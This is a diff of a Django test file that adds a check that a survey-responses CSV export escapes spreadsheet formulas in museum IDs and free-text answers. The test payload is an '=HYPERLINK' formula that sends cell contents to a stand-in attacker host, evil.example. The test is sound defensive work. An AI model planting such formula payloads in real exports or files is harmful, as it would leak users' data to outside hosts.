@@ -87,6 +87,29 @@ def test_responses_export_as_csv_with_stable_columns_and_no_identity(client, sof
     assert all(holder.email not in cell and holder.external_id not in cell for cell in rows[1])
 
 
+def test_the_responses_csv_neutralises_formulas_in_comments_and_museum_ids(client, sofie, campaign):
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik hier")'
+    invitation, _token = invitation_with_link(campaign=campaign)
+    invitation.museum.external_id = formula
+    invitation.museum.save()
+    questions = {q.kind: q for q in campaign.survey.questions.all()}
+    response_submit(
+        invitation=invitation,
+        answers={
+            questions["nps"].pk: 0,
+            questions["rating"].pk: 1,
+            questions["single"].pk: "family",
+            questions["multiple"].pk: ["alone"],
+            questions["text"].pk: formula,
+        },
+    )
+    client.force_login(sofie)
+    export = client.get(reverse("surveys:responses-csv", args=[campaign.pk]))
+    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
+    assert rows[1][2] == f"'{formula}"
+    assert rows[1][7:] == ["0", "1", "family", "alone", f"'{formula}"]
+
+
 def test_the_responses_api_is_cursor_paginated_in_a_fixed_number_of_queries(
     client, sofie, campaign, django_assert_num_queries
 ):
